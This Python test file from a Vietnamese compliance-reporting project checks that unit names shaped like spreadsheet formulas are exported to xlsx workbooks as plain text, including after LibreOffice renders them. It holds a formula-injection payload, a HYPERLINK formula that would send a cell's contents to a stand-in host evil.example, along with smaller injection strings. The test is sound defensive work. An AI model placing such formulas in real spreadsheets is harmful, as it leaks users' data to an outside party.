"""Every text cell of every export is text (issue 13 point 6): a hostile tester names units like formulas.

Unit names such as ``=HYPERLINK(…)`` came out as live formulas in the deductions workbook and the compiled
form 06. Each export writes every text through ``kstt.exports.cells.put``: reopened with openpyxl the
cell is a text (``data_type`` "s") holding exactly the name, marked *quotePrefix* when it starts like a
formula, and LibreOffice shows the name, never the formula's result. Through the real paths: the ledger's
download, ``kstt deductions`` and ``kstt form06``. The CSV of ``kstt deductions`` is data for programs
and carries the codes exactly as they were loaded (docs/integrators/commands.md, "kstt deductions").
"""

from __future__ import annotations

import csv
import io
import subprocess
from io import StringIO

import openpyxl
import pytest
from django.core.management import call_command

from kstt.compilation.tests.test_form06_command import DOSSIERS
from kstt.compliance.tests.ledger_story import NOW, history  # noqa: F401 (a fixture)
from kstt.dossiers.services import push_dossiers
from kstt.exports.cells import Formula, put
from kstt.exports.tests.test_libreoffice import soffice  # noqa: F401 (a fixture)
from kstt.tests.cast import AT
from kstt.units.services import load_units

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
#: (text written, text read back, quotePrefix)
TEXTS = [
    pytest.param(LINK, LINK, True, id="a-hyperlink-formula"),
    pytest.param("=1+1", "=1+1", True, id="equals"),
    pytest.param("+84 912 345 678", "+84 912 345 678", True, id="plus"),
    pytest.param("-2+3", "-2+3", True, id="minus"),
    pytest.param("@SUM(1+1)", "@SUM(1+1)", True, id="at"),
    pytest.param("\t=1+1", "\t=1+1", True, id="tab"),
    pytest.param("\r=1+1", "\r=1+1", True, id="carriage-return"),
    pytest.param("#N/A", "#N/A", False, id="an-error-code-openpyxl-would-make-an-error-cell"),
    pytest.param("Sở\x01Tư\x00pháp\ufffe", "Sở\ufffdTư\ufffdpháp\ufffd", False, id="characters-xml-cannot-carry"),
    pytest.param("Sở Tư pháp", "Sở Tư pháp", False, id="a-plain-name"),
]


def reopen(book):
    out = io.BytesIO()
    book.save(out)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue())), openpyxl.load_workbook(out, data_only=True)


@pytest.mark.parametrize(("text", "read", "quoted"), TEXTS)
def test_put_writes_a_text_as_a_text_whatever_it_starts_with(text, read, quoted):
    book = openpyxl.Workbook()
    put(book.active["B2"], text)
    put(book.active["C2"], Formula("=SUM(1,2)"))
    put(book.active["D2"], 7)
    formulas, values = reopen(book)
    cell = formulas.active["B2"]
    assert (cell.data_type, cell.value, bool(cell.quotePrefix)) == ("s", read, quoted)
    assert values.active["B2"].value == read  # nothing computed, nothing lost
    assert formulas.active["C2"].data_type == "f" and formulas.active["D2"].value == 7  # what is meant stays


def test_a_formula_is_only_what_the_export_means():
    with pytest.raises(ValueError, match="a formula starts with '='"):
        Formula("SUM(1,2)")


# --- Through the real paths ---------------------------------------------------------------------------------

RENAMED = {"D157": LINK, "P17-STP": "@SUM(1+1)", "W05341": "+84 xã Yên Nghiệp", "D156": "-Mai Châu"}


@pytest.fixture
def hostile_names(history):  # noqa: F811 (the fixture imported above)
    """The units renamed like formulas, and a district whose code is one."""
    lines = {
        "D157": "district,huyện,P17", "P17-STP": 'department,"sở, ban, ngành",P17', "W05341": "commune,xã,D157",
        "D156": "district,huyện,P17",
    }  # fmt: skip
    rows = "".join(f'{code},"{name.replace(chr(34), chr(34) * 2)}",{lines[code]}\n' for code, name in RENAMED.items())
    data = "code,name,level,kind,parent_code\n" + rows + "=D999,Huyện Mới,district,huyện,P17\n"
    load_units(data=data.encode(), effective_from=None, at=AT)
    push_dossiers(records=DOSSIERS, at=AT, actor=None)


def texts(book):
    """Every non-empty cell of every sheet that is not a number: (sheet, coordinate) -> cell."""
    return {
        (ws.title, cell.coordinate): cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None and not isinstance(cell.value, int | float)
    }


def assert_no_formula_but_the_totals(book, names):
    """No formula but form 06's totals (=SUM of rows), every name a text with quotePrefix."""
    cells = texts(book)
    formulas = [c.value for c in cells.values() if c.data_type == "f"]
    assert all(f.startswith("=SUM(") for f in formulas), formulas
    found = {c.value: c for c in cells.values() if c.value in names}
    assert set(found) == set(names), set(names) - set(found)
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())


def test_the_ledgers_workbook_holds_the_names_as_text(client, hostile_names, hoa, settings):
    settings.KSTT_CLOCK = NOW
    client.force_login(hoa)
    response = client.get("/compliance/deductions/2021/xlsx/")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert_no_formula_but_the_totals(book, [LINK, "@SUM(1+1)", "-Mai Châu", "=D999"])


def test_kstt_deductions_xlsx_holds_the_names_as_text_and_its_csv_the_codes_as_loaded(hostile_names, tmp_path):
    path = tmp_path / "diem-tru.xlsx"
    call_command("deductions", "--year", "2021", "--as-of", "2021-11-10T09:00+07:00", "--format", "xlsx",
                 "--output", str(path))  # fmt: skip
    assert_no_formula_but_the_totals(openpyxl.load_workbook(path), [LINK, "@SUM(1+1)", "-Mai Châu", "=D999"])

    out = StringIO()
    call_command("deductions", "--year", "2021", "--as-of", "2021-11-10T09:00+07:00", "--format", "csv", stdout=out)
    lines = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {line["unit"] for line in lines} >= {"=D999", "D157", "P17-STP"}  # data for programs, as loaded


def test_kstt_form06_of_the_province_holds_the_unit_names_as_text(hostile_names, tmp_path):
    path = tmp_path / "bieu06.xlsx"
    call_command("form06", "--unit", "P17", "--period", "2021Q3", "--format", "xlsx", "--output", str(path),
                 stderr=StringIO())  # fmt: skip
    assert_no_formula_but_the_totals(openpyxl.load_workbook(path), [LINK, "@SUM(1+1)", "+84 xã Yên Nghiệp"])


def test_libreoffice_shows_the_names_not_what_they_would_compute(soffice, hostile_names, tmp_path):  # noqa: F811
    path = tmp_path / "bieu06.xlsx"
    call_command("form06", "--unit", "P17", "--period", "2021Q3", "--format", "xlsx", "--output", str(path),
                 stderr=StringIO())  # fmt: skip
    subprocess.run(  # noqa: S603 (LibreOffice on our own file)
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    labels = {row[1] for row in csv.reader((tmp_path / "bieu06.csv").open(encoding="utf-8")) if len(row) > 1}
    assert {LINK, "@SUM(1+1)", "+84 xã Yên Nghiệp"} <= labels
    assert "Bấm vào đây" not in labels  # what the HYPERLINK would show
